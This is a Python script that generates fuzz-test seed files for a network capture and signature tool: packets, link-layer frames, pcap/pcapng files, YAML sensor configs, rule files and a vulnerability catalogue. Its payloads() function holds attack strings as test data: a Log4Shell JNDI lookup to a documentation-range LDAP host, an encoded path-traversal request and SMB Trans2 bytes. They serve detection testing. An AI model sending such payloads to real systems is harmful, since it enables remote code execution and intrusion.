#!/usr/bin/env python3
"""Writes the seeds of the fuzz targets, byte by byte from the specifications: fuzz/seeds.py.

Addresses are of documentation ranges. Run it after adding a link type, a format or a compression.
"""
import bz2
import gzip
import lzma
import pathlib
import shutil
import struct
import subprocess

ROOT = pathlib.Path(__file__).parent / "src/test/resources/org/noroshi/fuzz"
SOURCE4, DARK4 = bytes([192, 0, 2, 7]), bytes([198, 18, 3, 4])
SOURCE6 = bytes.fromhex("20010db8000000000000000000000007")
DARK6 = bytes.fromhex("20010db8000100000000000000000004")


def save(folder, name, data):
    target = ROOT / folder
    target.mkdir(parents=True, exist_ok=True)
    (target / name).write_bytes(data)


def ipv4(protocol, payload, fragment=0x4000, options=b"", source=SOURCE4, dark=DARK4):
    words = 5 + len(options) // 4
    length = words * 4 + len(payload)
    return struct.pack(">BBHHHBBH4s4s", 0x40 | words, 0, length, 54321, fragment, 64, protocol, 0,
                       source, dark) + options + payload


def ipv6(header, payload):
    return struct.pack(">IHBB16s16s", 6 << 28, len(payload), header, 64, SOURCE6, DARK6) + payload


def tcp(flags, options=b"", payload=b""):
    words = 5 + len(options) // 4
    return struct.pack(">HHIIBBHHH", 40000, 23, 0xC6120304, 0, words << 4, flags, 1024, 0, 0) + options + payload


def udp(port, payload):
    return struct.pack(">HHHH", 40000, port, 8 + len(payload), 0) + payload


def packets():
    mss = bytes([2, 4, 5, 0xB4, 1, 3, 3, 7])
    quoted = ipv4(6, tcp(2)[:8], source=DARK4, dark=SOURCE4)
    yield "syn4", ipv4(6, tcp(2, mss))
    yield "synack4", ipv4(6, tcp(0x12))
    yield "options4", ipv4(6, tcp(2), options=bytes([0x94, 4, 0, 0]))
    yield "fragment4", ipv4(17, b"\0" * 24, fragment=0x2005)
    yield "dns4", ipv4(17, udp(53, bytes.fromhex("123401000001000000000000036e6e6e0000010001")))
    yield "unreachable4", ipv4(1, bytes([3, 3, 0, 0, 0, 0, 0, 0]) + quoted)
    yield "echo4", ipv4(1, bytes([8, 0, 0, 0, 0, 1, 0, 1]))
    yield "gre4", ipv4(47, bytes([0, 0, 8, 0]) + quoted)
    yield "syn6", ipv6(6, tcp(2, mss))
    yield "hopbyhop6", ipv6(0, bytes([43, 0, 1, 4, 0, 0, 0, 0]) + bytes([44, 0, 0, 0, 0, 0, 0, 0])
                            + bytes([6, 0, 0, 1, 0, 0, 0, 9]) + tcp(2))
    yield "exceeded6", ipv6(58, bytes([3, 0, 0, 0, 0, 0, 0, 0]) + ipv6(17, udp(53, b"")))


def frames():
    """(LINKTYPE_, name, frame): every link layer once in front of a SYN, every packet once raw."""
    syn = ipv4(6, tcp(2))
    macs = bytes(6) + bytes([2, 0, 0, 0, 0, 1])
    for name, packet in packets():
        yield 101, name, packet
    yield 228, "raw4", syn
    yield 229, "raw6", ipv6(6, tcp(2))
    yield 1, "ethernet", macs + b"\x08\x00" + syn
    yield 1, "vlan", macs + b"\x81\x00\x00\x05\x08\x00" + syn
    yield 1, "qinq", macs + b"\x88\xa8\x00\x05\x81\x00\x00\x06\x08\x00" + syn
    yield 1, "mpls", macs + b"\x88\x47\x00\x01\x00\x40\x00\x02\x01\x40" + syn
    yield 1, "pppoe", macs + b"\x88\x64\x11\x00\x00\x01" + struct.pack(">HH", len(syn) + 2, 0x21) + syn
    yield 1, "snap", macs + struct.pack(">H", len(syn) + 8) + b"\xaa\xaa\x03\0\0\0\x08\x00" + syn
    yield 1, "arp", macs + b"\x08\x06" + bytes(28)
    yield 0, "null", struct.pack("<I", 2) + syn
    yield 0, "nullbig", struct.pack(">I", 2) + syn
    yield 108, "loop", struct.pack(">I", 2) + syn
    yield 113, "sll", bytes([0, 0, 0, 1, 0, 6]) + bytes(8) + b"\x08\x00" + syn
    yield 276, "sll2", b"\x08\x00\0\0" + bytes(16) + syn
    yield 9, "ppp", b"\xff\x03\x00\x21" + syn
    yield 50, "ppphdlc", b"\xff\x03\x00\x21" + syn
    yield 104, "chdlc", b"\x0f\x00\x08\x00" + syn


def pcap(order, magic, link, packets_):
    data = struct.pack(order + "IHHiIII", magic, 2, 4, 0, 0, 65535, link)
    for i, packet in enumerate(packets_):
        data += struct.pack(order + "IIII", 1700000000 + i, i, len(packet), len(packet)) + packet
    return data


def block(order, kind, body):
    body += bytes(-len(body) % 4)
    return struct.pack(order + "II", kind, len(body) + 12) + body + struct.pack(order + "I", len(body) + 12)


def option(order, code, value):
    return struct.pack(order + "HH", code, len(value)) + value + bytes(-len(value) % 4)


def pcapng(order, packets_):
    section = block(order, 0x0A0D0D0A, struct.pack(order + "IHHq", 0x1A2B3C4D, 1, 0, -1))
    nanos = option(order, 9, b"\x09") + option(order, 14, struct.pack(order + "q", 3600)) + option(order, 0, b"")
    data = section + block(order, 1, struct.pack(order + "HHI", 101, 0, 65535) + nanos)
    data += block(order, 1, struct.pack(order + "HHI", 101, 0, 40))
    data += block(order, 0xBAD, b"unknown")
    for i, packet in enumerate(packets_):
        time = (1700000000 + i) * 10**9
        data += block(order, 6, struct.pack(order + "IIIII", 0, time >> 32, time & 0xFFFFFFFF,
                                            len(packet), len(packet)) + packet)
    first = packets_[0]
    data += block(order, 3, struct.pack(order + "I", len(first)) + first)
    data += block(order, 2, struct.pack(order + "HHIIII", 1, 0, 0, 5, len(first), len(first)) + first)
    data += block(order, 5, struct.pack(order + "III", 0, 0, 0) + option(order, 5, bytes(8)))
    return data + section


def captures():
    some = [packet for _, packet in packets()]
    yield "micro-little", pcap("<", 0xA1B2C3D4, 101, some)
    yield "micro-big", pcap(">", 0xA1B2C3D4, 101, some)
    yield "nano-little", pcap("<", 0xA1B23C4D, 101, some)
    yield "nano-big", pcap(">", 0xA1B23C4D, 101, some)
    yield "ng-little", pcapng("<", some)
    yield "ng-big", pcapng(">", some)
    yield "cut", pcap("<", 0xA1B2C3D4, 101, some)[:-9]
    yield "huge-length", pcap("<", 0xA1B2C3D4, 101, some[:1]) + struct.pack("<IIII", 0, 0, 0x7FFFFFFF, 0x7FFFFFFF)
    yield "ng-huge-block", pcapng("<", some[:1]) + struct.pack("<II", 6, 0xFFFFFFFC)
    yield "empty", b""


def sensors():
    example = (pathlib.Path(__file__).parent.parent / "docs/examples/sensors.yaml").read_bytes()
    one = b"sensors:\n  - name: a\n    prefixes: [192.0.2.0/24]\n"
    yield "example", example
    yield "one", one
    yield "dated", b"sensors:\n- name: a\n  prefixes:\n  - {prefix: 2001:db8::/32, from: 2026-01-01, to: 2026-02-01T09:00+09:00}\n"
    yield "exclude", one + b"    exclude: [192.0.2.7/32]\n    kind: silent\n    interface: eth0\n    folder: /captures\n"
    yield "overlap", one + b"  - name: b\n    prefixes: [192.0.2.128/25]\n"
    yield "wrong", b"sensors:\n- nmae: a\n  kind: drknet\n  prefixes: [192.0.2.1/24, x, 1.2.3.4/99]\n"
    yield "alias", b"sensors: &a\n- name: a\n  prefixes: *a\n"
    yield "anchors", b"a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\nsensors: *b\n"
    yield "deep", b"[" * 20000
    yield "deep-blocks", b"- " * 20000
    yield "deep-keys", b"{a: " * 20000
    yield "not-utf8", one + b"\xff\xfe"
    yield "cut", one[:-3]
    yield "empty", b""


def payloads():
    yield "log4shell", b"GET /?a=${${lower:j}ndi:${::-l}dap://192.0.2.1/a} HTTP/1.1\r\n"
    yield "twice-encoded", b"GET /cgi-bin/.%%32%65/%252e%252e/%%%4%zz/${${${::-j HTTP/1.1\r\n"
    yield "trans2", bytes.fromhex("0000004fff534d4232") + bytes(54) + bytes.fromhex("01000e000d00")
    yield "text", "\u65e5\u202e\ufeff\u05d0\x1b[2J\\".encode() + b"\xc0\xaf\xed\xa0\x80\xff"
    yield "empty", b""


def rules():
    one = (b"signatures:\n- id: one\n  title: {en: One, ja: One}\n  protocol: udp\n  ports: [53, 80-90]\n"
           b"  ordered: true\n  patterns:\n  - {text: ab, nocase: true, at: 3}\n  - {anyOf: [cd, {hex: \"00 ff\"}]}\n"
           b"  cve: [CVE-2021-44228]\n  technique: T1190\n"
           b"  tests: {match: [a], nearMiss: [{hex: \"00\", port: 9, protocol: tcp}], evasion: [c]}\n")
    yield "one", one
    yield "wrong", one.replace(b"udp", b"sctp").replace(b"80-90", b"90-80").replace(b"00 ff", b"0g")
    yield "alias", b"signatures: &a\n- *a\n- {id: *a, patterns: *a}\n"
    yield "deep", b"[" * 20000
    yield "cut", one[:-9]
    yield "empty", b""


def catalogues():
    header = b"cveID,vendorProject,product,vulnerabilityName,dateAdded,dueDate,knownRansomwareCampaignUse\r\n"
    row = b'CVE-2021-44228,Apache,"Log4j2, ""2""\r\n",Name,2021-12-10,2021-12-24,Known\r\n'
    yield "one", b"\xef\xbb\xbf" + header + row
    yield "wrong", header + row + row + b"CVE-1,,,,x,,\n,\n\r\"a\"b,\"never"
    yield "empty", b""


def main():
    shutil.rmtree(ROOT, ignore_errors=True)
    for link, name, frame in frames():
        save("PacketHeadersFuzzTestInputs/anyFrameDecodes", name, struct.pack(">HB", link, 0) + frame)
    for name, data in captures():
        save("CaptureFuzzTestInputs/anyBytesAreRead", name, data)
    for name, data in sensors():
        save("SensorsFuzzTestInputs/anySensorsFileIsReadOrExplained", name, data)
    for name, data in payloads():
        save("SignatureFuzzTestInputs/aPayloadIsJudgedByItsOwnBytes", name, data)
        save("SignatureFuzzTestInputs/aPayloadIsShownAndNotObeyed", name, data)
    for name, data in rules():
        save("SignatureFuzzTestInputs/anyRuleFileIsReadOrExplained", name, data)
    for name, data in catalogues():
        save("SignatureFuzzTestInputs/anyCatalogueIsReadOrExplained", name, data)
    plain = dict(captures())["nano-little"]
    compressed = {"gzip": gzip.compress(plain, mtime=0), "xz": lzma.compress(plain), "bzip2": bz2.compress(plain)}
    for tool in ("zstd", "lz4"):
        compressed[tool] = subprocess.run([tool, "-c"], input=plain, stdout=subprocess.PIPE, check=True).stdout
    for name, data in compressed.items():
        save("CaptureFuzzTestInputs/anyBytesAreRead", name, data)
        save("CaptureFuzzTestInputs/anyBytesAreRead", name + "-cut", data[: len(data) * 2 // 3])


if __name__ == "__main__":
    main()
